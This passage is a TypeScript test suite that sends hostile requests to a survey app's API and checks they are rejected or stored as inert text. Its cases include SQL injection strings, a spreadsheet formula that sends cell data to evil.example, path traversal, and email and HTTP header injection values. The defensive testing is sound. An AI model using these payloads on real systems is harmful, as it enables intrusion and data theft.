// Hostile input against the built server: every public surface (the API, the respondent pages, sign-in
// and sign-up, the CSV and journey imports, the survey editor) sent what an attacker or a broken
// client sends — deep JSON, __proto__ keys, far and impossible dates, huge and chunked bodies,
// malformed multipart, wrong content types, NUL bytes, very long strings, odd numbers, injection
// strings, header injection. Each case is one row of a table ({ name, request, expect }). For every
// case: the status is below 500 (the expected 4xx where it is an error), the answer arrives within
// 2 s, and the row counts of the tables that matter are unchanged (or changed exactly as expected,
// for the few cases that are accepted on purpose).
import fs from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sql } from "drizzle-orm";
import { rows } from "#db/client";
import { createApiToken } from "~/data/api-tokens.server";
import { createPulse } from "~/data/clienting.server";
import { inviteMember } from "~/data/members.server";
import { freshDatabasePath, removeDatabase } from "../support/database";
import { PASSWORD, importSample, makeUser, makeWorkspace, sampleText } from "../support/fixtures";
import { sendRaw, sendStreaming, type RawAnswer } from "../support/raw-http";
import { startServer, type RunningServer } from "../support/server";
import { makeCustomer, makeInvitation, makeSurveyFixture, ratingAnswers, type SurveyFixture } from "../support/survey-fixtures";

const dbFile = freshDatabasePath("hostile-input");
const WITHIN_MS = 2_000;
const PASSWORD_CHECK_MS = 4_000;
const KB = 1024;
const MB = 1024 * KB;

// ---- What is counted -------------------------------------------------------------------------------

const TABLES = [
  "responses",
  "measurements",
  "customers",
  "crm_events",
  "invitations",
  "journeys",
  "surveys",
  "users",
  "sessions",
  "clienting_responses",
] as const;
type Table = (typeof TABLES)[number];
type Counts = Record<Table, number>;

const COUNT_ALL = sql.raw(`SELECT ${TABLES.map((t) => `(SELECT count(*) FROM ${t}) AS ${t}`).join(", ")}`);

async function counts(): Promise<Counts> {
  const [row] = await rows<Record<Table, number | string>>(COUNT_ALL);
  return Object.fromEntries(TABLES.map((t) => [t, Number(row[t])])) as Counts;
}

// ---- The cases' shape ----------------------------------------------------------------------------

type Fixture = {
  token: string;
  slug: string;
  survey: SurveyFixture;
  answers: Record<string, unknown>;
  invitationToken: string;
  pulseToken: string;
  inviteToken: string;
  usedKey: string;
  usedBody: Record<string, unknown>;
  cookie: string;
  port: number;
};

type HostileRequest = {
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Uint8Array;
  /** Streamed with Transfer-Encoding: chunked, no Content-Length. */
  chunked?: boolean;
  /** Send the API token / the signed-in admin's session cookie. */
  auth?: "token" | "session";
  /** Bytes written as is to a socket: for what fetch refuses to send (bad header values, bad paths). */
  raw?: string | Buffer;
  /**
   * A body of `size` bytes (`body`, then filler) written over a socket until the server answers, as
   * a client does that stops once refused: the answer's time is the server's, not the upload's.
   */
  stream?: { size: number; chunked: boolean };
};

type Expectation = {
  status: number | readonly number[];
  /** The JSON problem's `error` code. */
  error?: string;
  /** Something the answer must say (the path, the limit…). */
  says?: RegExp;
  /** Rows the request adds (only for the few cases accepted on purpose); anything else must not change. */
  changes?: Partial<Counts>;
  /** A header that must be there, with a value. */
  header?: [string, RegExp];
  /**
   * The request reaches a password check: scrypt at 64 MiB is slow on purpose (a tenth of a second
   * idle, seconds on a loaded 2-core machine), so such a case gets PASSWORD_CHECK_MS more.
   */
  checksPassword?: true;
};

type HostileCase = { name: string; request: (f: Fixture) => HostileRequest; expect: Expectation };

// ---- Building blocks ---------------------------------------------------------------------------------

const json = (value: unknown) => JSON.stringify(value);
const deepArray = (depth: number, inner = "1") => "[".repeat(depth) + inner + "]".repeat(depth);
const deepObject = (depth: number) => '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
const FORM = { "Content-Type": "application/x-www-form-urlencoded" };
const JSON_TYPE = { "Content-Type": "application/json" };
const BOUNDARY = "----hostile7MA4YWxkTrZu0gW";
const MULTIPART = { "Content-Type": `multipart/form-data; boundary=${BOUNDARY}` };
const MALFORMED_MULTIPART = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="data"\r\n\r\n{"a":1}\r\n--${BOUNDARY}`; // never closed
const GARBAGE_MULTIPART = "this is not multipart at all\r\n\r\n--nope--";
const multipart = (parts: { name: string; value: string; filename?: string }[]) =>
  parts
    .map(
      (p) =>
        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${p.name}"${p.filename ? `; filename="${p.filename}"` : ""}\r\n` +
        `${p.filename ? "Content-Type: application/octet-stream\r\n" : ""}\r\n${p.value}\r\n`,
    )
    .join("") + `--${BOUNDARY}--\r\n`;
const INVALID_UTF8 = new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]); // {"\xff\xfe":1}
const SQL_INJECTION = "'; DROP TABLE responses; --";
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const big = (size: number, chunked = false): Partial<HostileRequest> => ({ stream: { size, chunked } });
const inHour = () => new Date(Date.now() + 3600_000).toISOString();

/** A raw HTTP/1.1 request with a body (Content-Length computed). */
function rawRequest(port: number, method: string, path: string, headers: string[], body = ""): string {
  return [`${method} ${path} HTTP/1.1`, `Host: 127.0.0.1:${port}`, "Connection: close", ...headers, `Content-Length: ${Buffer.byteLength(body)}`, "", body].join("\r\n");
}

// ---- The table -----------------------------------------------------------------------------------

const api = (path: string, body: string | Uint8Array, more: Partial<HostileRequest> = {}): ((f: Fixture) => HostileRequest) => () => ({
  method: "POST",
  path,
  headers: JSON_TYPE,
  body,
  auth: "token",
  ...more,
});

/** POST /api/v1/responses with the fixture's deployment, answers and `extra` fields (or a whole body). */
const response =
  (make: (f: Fixture) => string | Uint8Array, more: Partial<HostileRequest> = {}) =>
  (f: Fixture): HostileRequest => ({ method: "POST", path: "/api/v1/responses", headers: JSON_TYPE, body: make(f), auth: "token", ...more });
const responseWith = (extra: (f: Fixture) => Record<string, unknown>, more: Partial<HostileRequest> = {}) =>
  response((f) => json({ deployment: f.survey.deploymentId, answers: f.answers, ...extra(f) }), more);
const answersWith = (extra: Record<string, unknown>) => responseWith((f) => ({ answers: { ...f.answers, ...extra } }));

const BAD_REQUEST = { status: 400 } as const;
const invalid = (says?: RegExp): Expectation => ({ status: 400, error: "invalid", says });
const invalidAnswers: Expectation = { status: 400, error: "invalid_answers" };

const responsesCases: HostileCase[] = [
  // Deep JSON and forbidden keys
  { name: "responses: 100,000-deep array in the answers", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"nps":${deepArray(100_000)}}}`), expect: { status: 400, error: "too_deep", says: /32 levels/ } },
  { name: "responses: 40,000-deep object as the whole body", request: response(() => deepObject(40_000)), expect: { status: 400, error: "too_deep", says: /32/ } },
  { name: "responses: 33 levels (one past the limit)", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"nps":${deepArray(31)}}}`), expect: { status: 400, error: "too_deep" } },
  { name: "responses: brackets inside a string are not nesting", request: answersWith({ comment: "[".repeat(5_000) }), expect: { status: 201, changes: { responses: 1, measurements: -1 } } },
  { name: "responses: __proto__ key in the answers", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"__proto__":{"admin":true},"nps":5}}`), expect: { status: 400, error: "forbidden_key", says: /answers\.__proto__/ } },
  { name: "responses: constructor key in the answers", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"constructor":{"prototype":{"x":1}}}}`), expect: { status: 400, error: "forbidden_key", says: /answers\.constructor/ } },
  { name: "responses: prototype key nested in an answer", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"nps":5,"comment":{"deep":[{"prototype":1}]}}}`), expect: { status: 400, error: "forbidden_key", says: /answers\.comment\.deep\[0\]\.prototype/ } },
  { name: "responses: __proto__ at the top level", request: response((f) => `{"__proto__":{"polluted":1},"deployment":${f.survey.deploymentId},"answers":{}}`), expect: { status: 400, error: "forbidden_key", says: /"__proto__"/ } },
  { name: "responses: __proto__ spelled with a unicode escape", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"__pro\\u0074o__":1}}`), expect: { status: 400, error: "forbidden_key" } },
  { name: "responses: NUL escape in the comment", request: answersWith({ comment: "bad\u0000byte" }), expect: { status: 400, error: "nul_character", says: /answers\.comment/ } },
  { name: "responses: raw NUL byte in the body", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"comment":"a\u0000b"}}`), expect: { status: 400, error: "invalid_json" } },
  { name: "responses: NUL in the customer id", request: responseWith(() => ({ customer: "C\u00001" })), expect: { status: 400, error: "nul_character" } },
  { name: "responses: invalid UTF-8 in a key", request: response(() => INVALID_UTF8), expect: { status: 400 } },
  { name: "responses: lone surrogate escape as a question name", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{"\\ud800":1}}`), expect: invalidAnswers },
  // Not an object, not JSON
  { name: "responses: empty body", request: response(() => ""), expect: { status: 400, error: "invalid_json" } },
  { name: "responses: JSON null", request: response(() => "null"), expect: invalid() },
  { name: "responses: JSON array", request: response(() => "[]"), expect: invalid() },
  { name: "responses: JSON string", request: response(() => '"answers"'), expect: invalid() },
  { name: "responses: a number that overflows to Infinity", request: response(() => "1e999"), expect: invalid() },
  { name: "responses: trailing garbage", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{}} extra`), expect: { status: 400, error: "invalid_json" } },
  { name: "responses: duplicate keys hiding a bad value", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":{},"answers":[1]}`), expect: invalid() },
  { name: "responses: multipart body", request: response(() => multipart([{ name: "answers", value: "{}" }]), { headers: MULTIPART }), expect: { status: 400, error: "invalid_json" } },
  { name: "responses: url-encoded body", request: response(() => form({ deployment: "1", answers: "{}" }), { headers: FORM }), expect: { status: 400, error: "invalid_json" } },
  { name: "responses: XML body", request: response(() => "<response><nps>10</nps></response>", { headers: { "Content-Type": "application/xml" } }), expect: { status: 400, error: "invalid_json" } },
  // Numbers
  { name: "responses: negative deployment", request: responseWith(() => ({ deployment: -1 })), expect: invalid(/deployment/) },
  { name: "responses: zero deployment", request: responseWith(() => ({ deployment: 0 })), expect: invalid(/deployment/) },
  { name: "responses: fractional deployment", request: responseWith(() => ({ deployment: 1.5 })), expect: invalid(/deployment/) },
  { name: "responses: deployment past the safe integers", request: response((f) => `{"deployment":9007199254740993,"answers":${json(f.answers)}}`), expect: { status: [400, 404] } },
  { name: "responses: deployment 1e308", request: response((f) => `{"deployment":1e308,"answers":${json(f.answers)}}`), expect: { status: [400, 404] } },
  { name: "responses: deployment past a 32-bit id", request: responseWith(() => ({ deployment: 2 ** 31 })), expect: { status: [400, 404] } },
  { name: "responses: deployment as a string", request: responseWith(() => ({ deployment: "1" })), expect: invalid(/deployment/) },
  { name: "responses: deployment NaN (not JSON)", request: response((f) => `{"deployment":NaN,"answers":${json(f.answers)}}`), expect: { status: 400, error: "invalid_json" } },
  { name: "responses: deployment Infinity (not JSON)", request: response((f) => `{"deployment":Infinity,"answers":${json(f.answers)}}`), expect: { status: 400, error: "invalid_json" } },
  { name: "responses: deployment of 1e999 (Infinity)", request: response((f) => `{"deployment":1e999,"answers":${json(f.answers)}}`), expect: invalid(/deployment/) },
  { name: "responses: nps -1", request: answersWith({ nps: -1 }), expect: invalidAnswers },
  { name: "responses: nps 1e308", request: answersWith({ nps: 1e308 }), expect: invalidAnswers },
  { name: "responses: nps as text", request: answersWith({ nps: "10" }), expect: invalidAnswers },
  { name: "responses: nps 9.5", request: answersWith({ nps: 9.5 }), expect: invalidAnswers },
  { name: "responses: nps of 1e999 (Infinity)", request: response((f) => `{"deployment":${f.survey.deploymentId},"answers":${json(f.answers).replace(/"nps":\d+/, '"nps":1e999')}}`), expect: invalidAnswers },
  // Strings and enums
  { name: "responses: 10,000-character touchpoint key", request: response((f) => json({ touchpoint: "t".repeat(10_000), answers: f.answers })), expect: invalid(/touchpoint/) },
  { name: "responses: 100,000-character customer id", request: responseWith(() => ({ customer: "c".repeat(100_000) })), expect: invalid(/customer/) },
  { name: "responses: 5,000 unknown questions", request: answersWith(Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`q${i}`, 1]))), expect: invalidAnswers },
  { name: "responses: a 100,000-character question name", request: answersWith({ ["x".repeat(100_000)]: 1 }), expect: invalidAnswers },
  { name: "responses: unknown language", request: responseWith(() => ({ lang: "fr" })), expect: invalid(/lang/) },
  { name: "responses: language in capitals", request: responseWith(() => ({ lang: "ES" })), expect: invalid(/lang/) },
  { name: "responses: language null", request: responseWith(() => ({ lang: null })), expect: invalid(/lang/) },
  { name: "responses: unknown field", request: responseWith(() => ({ admin: true })), expect: invalid() },
  { name: "responses: SQL injection as the touchpoint key", request: response((f) => json({ touchpoint: SQL_INJECTION, answers: f.answers })), expect: { status: 404, error: "not_found" } },
  { name: "responses: SQL injection as a question name", request: answersWith({ [SQL_INJECTION]: 1 }), expect: invalidAnswers },
  // Timestamps
  { name: "responses: completedAt in year 0", request: responseWith(() => ({ completedAt: "0000-01-01T00:00:00Z" })), expect: invalid(/completedAt/) },
  { name: "responses: completedAt before 1970", request: responseWith(() => ({ completedAt: "1969-12-31T23:59:59Z" })), expect: invalid(/1970/) },
  { name: "responses: completedAt at the epoch, before the workspace", request: responseWith(() => ({ completedAt: "1970-01-01T00:00:00Z" })), expect: invalid(/workspace was created/) },
  { name: "responses: completedAt a year before the workspace", request: responseWith(() => ({ completedAt: new Date(Date.now() - 365 * 86_400_000).toISOString() })), expect: invalid(/workspace/) },
  { name: "responses: completedAt in 9999", request: responseWith(() => ({ completedAt: "9999-12-31T23:59:59Z" })), expect: invalid(/future/) },
  { name: "responses: completedAt an hour ahead", request: responseWith(() => ({ completedAt: inHour() })), expect: invalid(/future/) },
  { name: "responses: completedAt on February 30", request: responseWith(() => ({ completedAt: "2025-02-30T10:00:00Z" })), expect: invalid(/completedAt/) },
  { name: "responses: completedAt in month 13", request: responseWith(() => ({ completedAt: "2025-13-01T10:00:00Z" })), expect: invalid(/completedAt/) },
  { name: "responses: completedAt at 25 o'clock", request: responseWith(() => ({ completedAt: "2025-01-01T25:00:00Z" })), expect: invalid(/completedAt/) },
  { name: "responses: completedAt with a +25:00 offset", request: responseWith(() => ({ completedAt: "2025-01-01T10:00:00+25:00" })), expect: invalid(/completedAt/) },
  { name: "responses: completedAt in an extended year", request: responseWith(() => ({ completedAt: "+275760-09-13T00:00:00Z" })), expect: invalid(/completedAt/) },
  { name: "responses: completedAt as a number", request: responseWith(() => ({ completedAt: 0 })), expect: invalid(/completedAt/) },
  { name: "responses: completedAt as a date only", request: responseWith(() => ({ completedAt: "2025-02-03" })), expect: invalid(/completedAt/) },
  { name: "responses: startedAt in year 0", request: responseWith(() => ({ startedAt: "0000-01-01T00:00:00Z" })), expect: invalid(/startedAt/) },
  { name: "responses: startedAt an hour ahead", request: responseWith(() => ({ startedAt: inHour() })), expect: invalid(/startedAt/) },
  { name: "responses: startedAt after completedAt", request: responseWith(() => ({ startedAt: new Date().toISOString(), completedAt: new Date(Date.now() - 60_000).toISOString() })), expect: invalid(/startedAt/) },
  // Idempotency-Key
  { name: "responses: key reused with other answers", request: (f) => ({ ...responseWith(() => ({ answers: { ...f.answers, nps: 0 } }))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 422, error: "idempotency_key_reused" } },
  { name: "responses: key reused with another customer", request: (f) => ({ ...response(() => json({ ...f.usedBody, customer: "SOMEONE-ELSE" }))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 422, error: "idempotency_key_reused" } },
  { name: "responses: key reused naming the deployment by touchpoint", request: (f) => ({ ...response(() => json({ ...f.usedBody, deployment: undefined, touchpoint: f.survey.touchpoint.key }))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 422, error: "idempotency_key_reused" } },
  { name: "responses: key reused with another deployment id", request: (f) => ({ ...response(() => json({ ...f.usedBody, deployment: 999_999 }))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 422, error: "idempotency_key_reused" } },
  { name: "responses: key reused with another completedAt", request: (f) => ({ ...response(() => json({ ...f.usedBody, completedAt: new Date(Date.now() - 60_000).toISOString() }))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 422, error: "idempotency_key_reused" } },
  { name: "responses: key reused with answers that no longer fit", request: (f) => ({ ...response(() => json({ ...f.usedBody, answers: { ...(f.usedBody.answers as object), nps: 99 } }))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 422, error: "idempotency_key_reused" } },
  { name: "responses: key reused with the same request: replayed", request: (f) => ({ ...response(() => json(f.usedBody))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 201, header: ["Idempotent-Replayed", /^true$/] } },
  { name: "responses: key reused with the same request, keys reordered and spaced", request: (f) => ({ ...response(() => `{ "answers" : ${json(Object.fromEntries(Object.entries(f.usedBody.answers as object).reverse()))} , "customer":"${f.usedBody.customer as string}", "deployment": ${f.survey.deploymentId} }`)(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 201, header: ["Idempotent-Replayed", /^true$/] } },
  { name: "responses: key reused with a body too deep", request: (f) => ({ ...response(() => deepObject(100))(f), headers: { ...JSON_TYPE, "Idempotency-Key": f.usedKey } }), expect: { status: 400, error: "too_deep" } },
  { name: "responses: 256-character key", request: (f) => ({ ...responseWith(() => ({}))(f), headers: { ...JSON_TYPE, "Idempotency-Key": "k".repeat(256) } }), expect: { status: 400, error: "invalid_idempotency_key" } },
  { name: "responses: key with spaces", request: (f) => ({ ...responseWith(() => ({}))(f), headers: { ...JSON_TYPE, "Idempotency-Key": "a key" } }), expect: { status: 400, error: "invalid_idempotency_key" } },
  { name: "responses: key with a Latin-1 letter", request: (f) => ({ ...responseWith(() => ({}))(f), headers: { ...JSON_TYPE, "Idempotency-Key": "cl\u00e9" } }), expect: { status: 400, error: "invalid_idempotency_key" } },
  { name: "responses: newline in the key (header injection)", request: (f) => ({ path: "", raw: rawRequest(f.port, "POST", "/api/v1/responses", [`Authorization: Bearer ${f.token}`, "Content-Type: application/json", "Idempotency-Key: abc\nX-Injected: 1"], json({ deployment: f.survey.deploymentId, answers: f.answers })) }), expect: { status: 400 } },
  { name: "responses: carriage return in the key", request: (f) => ({ path: "", raw: rawRequest(f.port, "POST", "/api/v1/responses", [`Authorization: Bearer ${f.token}`, "Content-Type: application/json", "Idempotency-Key: abc\rdef"], json({ deployment: f.survey.deploymentId, answers: f.answers })) }), expect: { status: 400 } },
  { name: "responses: NUL in the key", request: (f) => ({ path: "", raw: rawRequest(f.port, "POST", "/api/v1/responses", [`Authorization: Bearer ${f.token}`, "Content-Type: application/json", "Idempotency-Key: abc\u0000def"], json({ deployment: f.survey.deploymentId, answers: f.answers })) }), expect: { status: 400 } },
  // Sizes, chunked bodies, methods, tokens
  { name: "responses: 300 KB body", request: answersWith({ comment: "x".repeat(300 * KB) }), expect: { status: 413, error: "too_large" } },
  { name: "responses: 300 KB chunked body without Content-Length", request: response((f) => json({ deployment: f.survey.deploymentId, answers: { ...f.answers, comment: "x".repeat(300 * KB) } }), { chunked: true }), expect: { status: 413, error: "too_large" } },
  { name: "responses: 20 MB body", request: response(() => "", big(20 * MB)), expect: { status: 413 } },
  { name: "responses: 20 MB chunked body", request: response(() => "", big(20 * MB, true)), expect: { status: 413 } },
  { name: "responses: chunked small body with bad answers", request: response((f) => json({ deployment: f.survey.deploymentId, answers: { nps: 42 } }), { chunked: true }), expect: invalidAnswers },
  { name: "responses: Content-Length shorter than the body sent", request: (f) => ({ path: "", raw: [`POST /api/v1/responses HTTP/1.1`, `Host: 127.0.0.1:${f.port}`, "Connection: close", `Authorization: Bearer ${f.token}`, "Content-Length: 5", "", `{"deployment":${f.survey.deploymentId},"answers":{}}`].join("\r\n") }), expect: { status: 400 } },
  { name: "responses: no token", request: response((f) => json({ deployment: f.survey.deploymentId, answers: f.answers }), { auth: undefined }), expect: { status: 401, error: "unauthorized" } },
  { name: "responses: unknown token", request: response((f) => json({ deployment: f.survey.deploymentId, answers: f.answers }), { auth: undefined, headers: { ...JSON_TYPE, Authorization: "Bearer viv_nope" } }), expect: { status: 401 } },
  { name: "responses: SQL injection as the token", request: response((f) => json({ deployment: f.survey.deploymentId, answers: f.answers }), { auth: undefined, headers: { ...JSON_TYPE, Authorization: `Bearer ${SQL_INJECTION.replaceAll(" ", "")}` } }), expect: { status: 401 } },
  { name: "responses: 12 KB token", request: response((f) => json({ deployment: f.survey.deploymentId, answers: f.answers }), { auth: undefined, headers: { ...JSON_TYPE, Authorization: `Bearer ${"t".repeat(12 * KB)}` } }), expect: { status: 401 } },
  { name: "responses: headers over Node's limit", request: response((f) => json({ deployment: f.survey.deploymentId, answers: f.answers }), { headers: { ...JSON_TYPE, "X-Padding": "p".repeat(20 * KB) } }), expect: { status: 431 } },
  { name: "responses: GET", request: () => ({ method: "GET", path: "/api/v1/responses", auth: "token" }), expect: { status: 405 } },
  { name: "responses: PUT with a body", request: response((f) => json({ deployment: f.survey.deploymentId, answers: f.answers }), { method: "PUT" }), expect: { status: 405 } },
  { name: "responses: DELETE", request: () => ({ method: "DELETE", path: "/api/v1/responses", auth: "token" }), expect: { status: 405 } },
  // Accepted on purpose: hostile text is stored as text, never run
  { name: "responses: SQL injection as the customer id is stored as text", request: responseWith(() => ({ customer: SQL_INJECTION })), expect: { status: 201, changes: { responses: 1, customers: 1, measurements: -1 } } },
  { name: "responses: formula as the comment is stored as text", request: answersWith({ comment: FORMULA }), expect: { status: 201, changes: { responses: 1, measurements: -1 } } },
];

const batch = (path: string) => (body: string | Uint8Array, more: Partial<HostileRequest> = {}) => api(path, body, more);
const customersApi = batch("/api/v1/customers");
const eventsApi = batch("/api/v1/events");
/** A 200 batch answer with every item rejected: nothing stored. */
const rejectedItem = (says: RegExp): Expectation => ({ status: 200, says });
const event = (fields: Record<string, unknown>) => json([{ customer_external_id: "C-EV", type: "purchase", occurred_at: "2025-01-01", ...fields }]);

const crmCases: HostileCase[] = [
  { name: "customers: 100,000-deep JSON", request: customersApi(deepArray(100_000)), expect: { status: 400, error: "too_deep" } },
  { name: "customers: __proto__ in an item", request: customersApi('[{"external_id":"C-1","__proto__":{"tier":"gold"}}]'), expect: { status: 400, error: "forbidden_key", says: /\[0\]\.__proto__/ } },
  { name: "customers: constructor in the second item", request: customersApi('[{"external_id":"C-1"},{"external_id":"C-2","constructor":1}]'), expect: { status: 400, error: "forbidden_key", says: /\[1\]\.constructor/ } },
  { name: "customers: prototype as a nested key", request: customersApi('[{"external_id":"C-1","notes":{"prototype":1}}]'), expect: { status: 400, error: "forbidden_key" } },
  { name: "customers: NUL in a name", request: customersApi(json([{ external_id: "C-1", name: "Ana\u0000" }])), expect: { status: 400, error: "nul_character", says: /\[0\]\.name/ } },
  { name: "customers: not JSON", request: customersApi("external_id,name\nC-1,Ana"), expect: { status: 400, error: "invalid_json" } },
  { name: "customers: a single object", request: customersApi(json({ external_id: "C-1" })), expect: { status: 400, error: "not_an_array" } },
  { name: "customers: 1,001 items", request: customersApi(json(Array.from({ length: 1001 }, (_, i) => ({ external_id: `C-${i}` })))), expect: { status: 400, error: "batch_too_large" } },
  { name: "customers: empty external id", request: customersApi(json([{ external_id: "" }])), expect: rejectedItem(/external_id/) },
  { name: "customers: 10,000-character external id", request: customersApi(json([{ external_id: "e".repeat(10_000) }])), expect: rejectedItem(/at most 200/) },
  { name: "customers: external id as a number", request: customersApi(json([{ external_id: 12 }])), expect: rejectedItem(/external_id/) },
  { name: "customers: created_at in year 0", request: customersApi(json([{ external_id: "C-1", created_at: "0000-01-01" }])), expect: rejectedItem(/created_at/) },
  { name: "customers: created_at before 1970", request: customersApi(json([{ external_id: "C-1", created_at: "1969-07-20" }])), expect: rejectedItem(/1970/) },
  { name: "customers: created_at in 9999", request: customersApi(json([{ external_id: "C-1", created_at: "9999-12-31" }])), expect: rejectedItem(/future/) },
  { name: "customers: created_at on February 30", request: customersApi(json([{ external_id: "C-1", created_at: "2024-02-30" }])), expect: rejectedItem(/created_at/) },
  { name: "customers: unknown language", request: customersApi(json([{ external_id: "C-1", language: "klingon" }])), expect: rejectedItem(/language/) },
  { name: "customers: email with a newline", request: customersApi(json([{ external_id: "C-1", email: "a@b.test\nBcc: c@d.test" }])), expect: rejectedItem(/email/) },
  { name: "customers: items that are not objects", request: customersApi(json([1, "two", null, []])), expect: rejectedItem(/JSON object/) },
  { name: "customers: 5 MB body", request: customersApi("[", big(5 * MB)), expect: { status: 413, error: "too_large" } },
  { name: "customers: 5 MB chunked body", request: customersApi("[", big(5 * MB, true)), expect: { status: 413, error: "too_large" } },
  { name: "customers: chunked small body", request: customersApi(json([{ external_id: "" }]), { chunked: true }), expect: rejectedItem(/external_id/) },
  { name: "customers: no token", request: customersApi("[]", { auth: undefined }), expect: { status: 401 } },
  { name: "customers: GET", request: () => ({ method: "GET", path: "/api/v1/customers", auth: "token" }), expect: { status: 405 } },
  { name: "customers: multipart body", request: customersApi(multipart([{ name: "file", value: "a,b", filename: "c.csv" }]), { headers: MULTIPART }), expect: { status: 400, error: "invalid_json" } },
  { name: "customers: SQL injection as the external id is stored as text", request: customersApi(json([{ external_id: `${SQL_INJECTION} (2)`, name: "Robert'); DROP TABLE customers;--" }])), expect: { status: 200, changes: { customers: 1 } } },
  { name: "customers: formula as the name is stored as text", request: customersApi(json([{ external_id: "C-FORMULA", name: FORMULA }])), expect: { status: 200, changes: { customers: 1 } } },

  { name: "events: 100,000-deep JSON", request: eventsApi(`[{"customer_external_id":"C-EV","type":"purchase","occurred_at":"2025-01-01","amount":${deepArray(100_000)}}]`), expect: { status: 400, error: "too_deep" } },
  { name: "events: __proto__ in an item", request: eventsApi('[{"customer_external_id":"C-EV","type":"purchase","occurred_at":"2025-01-01","__proto__":{}}]'), expect: { status: 400, error: "forbidden_key" } },
  { name: "events: NUL in the type", request: eventsApi(event({ type: "pur\u0000chase" })), expect: { status: 400, error: "nul_character" } },
  { name: "events: occurred_at in year 0", request: eventsApi(event({ occurred_at: "0000-01-01" })), expect: rejectedItem(/occurred_at/) },
  { name: "events: occurred_at before 1970", request: eventsApi(event({ occurred_at: "1969-12-31T23:59:59Z" })), expect: rejectedItem(/1970/) },
  { name: "events: occurred_at in 9999", request: eventsApi(event({ occurred_at: "9999-12-31" })), expect: rejectedItem(/future/) },
  { name: "events: occurred_at a day ahead", request: eventsApi(event({ occurred_at: new Date(Date.now() + 86_400_000).toISOString() })), expect: rejectedItem(/future/) },
  { name: "events: occurred_at on February 30", request: eventsApi(event({ occurred_at: "2024-02-30" })), expect: rejectedItem(/occurred_at/) },
  { name: "events: occurred_at in month 13", request: eventsApi(event({ occurred_at: "2024-13-01" })), expect: rejectedItem(/occurred_at/) },
  { name: "events: occurred_at as a number", request: eventsApi(event({ occurred_at: 1_700_000_000_000 })), expect: rejectedItem(/occurred_at/) },
  { name: "events: occurred_at empty", request: eventsApi(event({ occurred_at: "" })), expect: rejectedItem(/occurred_at/) },
  { name: "events: amount NaN as text", request: eventsApi(event({ amount: "NaN" })), expect: rejectedItem(/amount/) },
  { name: "events: amount Infinity as text", request: eventsApi(event({ amount: "Infinity" })), expect: rejectedItem(/amount/) },
  { name: "events: amount 1e999 (Infinity)", request: eventsApi('[{"customer_external_id":"C-EV","type":"purchase","occurred_at":"2025-01-01","amount":1e999}]'), expect: rejectedItem(/amount/) },
  { name: "events: amount as an object", request: eventsApi(event({ amount: { value: 1 } })), expect: rejectedItem(/amount/) },
  { name: "events: a type with no letters", request: eventsApi(event({ type: "!!!" })), expect: rejectedItem(/type/) },
  { name: "events: currency of four letters", request: eventsApi(event({ currency: "EURO" })), expect: rejectedItem(/currency/) },
  { name: "events: touchpoint key with a path", request: eventsApi(event({ touchpoint_key: "../../etc/passwd" })), expect: rejectedItem(/touchpoint_key/) },
  { name: "events: missing customer", request: eventsApi(json([{ type: "purchase", occurred_at: "2025-01-01" }])), expect: rejectedItem(/customer_external_id/) },
  { name: "events: 10,000-character customer id", request: eventsApi(event({ customer_external_id: "c".repeat(10_000) })), expect: rejectedItem(/at most 200/) },
  { name: "events: 3 MB body", request: eventsApi("[", big(3 * MB)), expect: { status: 413, error: "too_large" } },
  { name: "events: 3 MB chunked body", request: eventsApi("[", big(3 * MB, true)), expect: { status: 413, error: "too_large" } },
  { name: "events: not JSON", request: eventsApi("{"), expect: { status: 400, error: "invalid_json" } },
  { name: "events: no token", request: eventsApi("[]", { auth: undefined }), expect: { status: 401 } },
];

const invitationsApi = (body: string | Uint8Array, more: Partial<HostileRequest> = {}) => api("/api/v1/invitations", body, more);
const invite = (f: Fixture, fields: Record<string, unknown>) => json({ deployment: f.survey.deploymentId, customers: ["C-INV"], ...fields });
const invitationCases: HostileCase[] = [
  { name: "invitations: 100,000-deep JSON", request: invitationsApi(deepObject(100_000)), expect: { status: 400, error: "too_deep" } },
  { name: "invitations: __proto__ key", request: (f) => invitationsApi(`{"deployment":${f.survey.deploymentId},"customers":["C-INV"],"__proto__":{"expiresInHours":1}}`)(f), expect: { status: 400, error: "forbidden_key" } },
  { name: "invitations: NUL in a customer id", request: (f) => invitationsApi(invite(f, { customers: ["C\u0000"] }))(f), expect: { status: 400, error: "nul_character" } },
  { name: "invitations: not JSON", request: invitationsApi("deployment=1"), expect: { status: 400, error: "invalid_json" } },
  { name: "invitations: 1,001 customers", request: (f) => invitationsApi(invite(f, { customers: Array.from({ length: 1001 }, (_, i) => `C-${i}`) }))(f), expect: { status: 400, error: "invalid_request" } },
  { name: "invitations: empty customer id", request: (f) => invitationsApi(invite(f, { customers: [""] }))(f), expect: { status: 400, error: "invalid_request" } },
